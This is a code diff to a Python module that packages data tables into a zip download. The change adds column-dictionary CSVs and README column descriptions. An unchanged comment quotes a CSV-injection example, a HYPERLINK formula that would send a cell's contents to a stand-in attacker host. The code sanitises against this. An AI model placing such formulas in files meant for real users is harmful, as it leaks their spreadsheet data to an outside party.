@@ -4,11 +4,13 @@ filters, the sources with citations and licences, the date and the link that reo
 import io
 import re
 import zipfile
+from collections.abc import Sequence
 from datetime import date
 
 import pandas as pd
 
 from components.provenance import source_line, used_sources, with_attribution
+from data.catalog import column_dictionary
 
 # A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV injection"): a news title from a
 # user's file such as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run when the download is opened.
@@ -42,6 +44,7 @@ def package_readme(
     filters: list[str],
     view_link: str | None,
     on: date,
+    catalog_tables: Sequence[str] = (),
 ) -> str:
     ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
     lines = [
@@ -58,6 +61,8 @@ def package_readme(
     if view_link:
         lines += ["", f"Reopen this view: {view_link}"]
     lines += ["", "Files:"] + [f"- {name}.csv ({len(table):,} rows)" for name, table in tables.items()]
+    lines += ["- dictionary.csv: every column's meaning, unit and source" if len(tables) == 1 else
+              "- <name>-dictionary.csv: every column's meaning, unit and source, per table"]  # fmt: skip
     lines += [
         "- sources.csv (publisher, dataset, edition, URL, licence and citation of every source used)",
         "",
@@ -65,6 +70,12 @@ def package_readme(
     ]
     lines += [f"- [{row['source_id']}] {source_line(row)}" for _, row in used_sources(sources, ids).iterrows()]
     lines += ["", "Missing values are empty cells: the publisher gives no figure (not zero)."]
+    for name, table in tables.items():
+        lines += ["", f"Columns of {name}.csv (also as a CSV file, the dictionary): column (label) - meaning [unit]"]
+        lines += [
+            f"- {entry['column']} ({entry['label']}) - {entry['meaning']} [{entry['unit']}]"
+            for entry in column_dictionary(with_attribution(table, sources).columns, catalog_tables)
+        ]
     return "\n".join(lines) + "\n"
 
 
@@ -77,6 +88,7 @@ def package_bytes(
     filters: list[str],
     view_link: str | None = None,
     on: date | None = None,
+    catalog_tables: Sequence[str] = (),
 ) -> bytes:
     on = on or date.today()
     ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
@@ -84,9 +96,17 @@ def package_bytes(
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
         archive.writestr(
             "README.txt",
-            package_readme(tables, sources, title=title, measure=measure, filters=filters, view_link=view_link, on=on),
-        )
+            package_readme(
+                tables, sources, title=title, measure=measure, filters=filters, view_link=view_link, on=on,
+                catalog_tables=catalog_tables,
+            ),
+        )  # fmt: skip
         for name, table in tables.items():
-            archive.writestr(f"{name}.csv", formula_safe(with_attribution(table, sources)).to_csv(index=False))
+            shipped = with_attribution(table, sources)
+            archive.writestr(f"{name}.csv", formula_safe(shipped).to_csv(index=False))
+            dictionary = pd.DataFrame(column_dictionary(shipped.columns, catalog_tables))
+            archive.writestr(
+                "dictionary.csv" if len(tables) == 1 else f"{name}-dictionary.csv", dictionary.to_csv(index=False)
+            )
         archive.writestr("sources.csv", formula_safe(used_sources(sources, ids)).to_csv(index=False))
     return buffer.getvalue()
